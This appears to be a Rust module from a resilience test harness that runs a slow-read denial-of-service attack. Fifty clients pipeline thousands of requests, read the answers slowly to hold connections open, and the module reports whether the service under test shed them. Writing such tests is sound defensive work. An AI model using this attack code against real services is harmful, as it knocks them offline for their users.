//! Clients that ask for large answers and read a little of them now and then: each byte would hold the connection anew.

use crate::good::GoodClients;
use crate::target::Target;
use crate::{Options, Outcome, Verdict};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// They read some 300 KB a second: often enough for a time limit that begins anew with each byte.
pub const SETTINGS: &[&str] = &["--max-connections", "60", "--min-answer-rate", "1000000"];

pub async fn attack(target: &Target, options: &Options) -> Outcome<Verdict> {
    let good = GoodClients::start(target, 4).await?;
    let patience = Duration::from_secs(if options.short { 20 } else { 90 });
    let mut attackers = JoinSet::new();
    for _ in 0..50 {
        let address = target.address;
        attackers.spawn(async move {
            let socket = TcpSocket::new_v4()?;
            // A small window lets the service's system take bytes in small portions.
            socket.set_recv_buffer_size(4096)?;
            let (mut reading, mut writing) = socket.connect(address).await?.into_split();
            let ask = "GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(2000);
            tokio::spawn(async move {
                let _ = writing.write_all(ask.as_bytes()).await;
                std::future::pending::<()>().await;
            });
            let mut buffer = vec![0; 32 << 10];
            let ended = async {
                while let Ok(1..) = reading.read(&mut buffer).await {
                    sleep(Duration::from_millis(100)).await;
                }
            };
            Ok::<bool, std::io::Error>(timeout(patience, ended).await.is_ok())
        });
    }
    let ended = attackers.join_all().await;
    let held = ended
        .iter()
        .filter(|ended| matches!(ended, Ok(false)))
        .count();
    let seen = format!("{} clients, {held} still connected at the end", ended.len());
    good.verdict(held == 0, seen).await
}
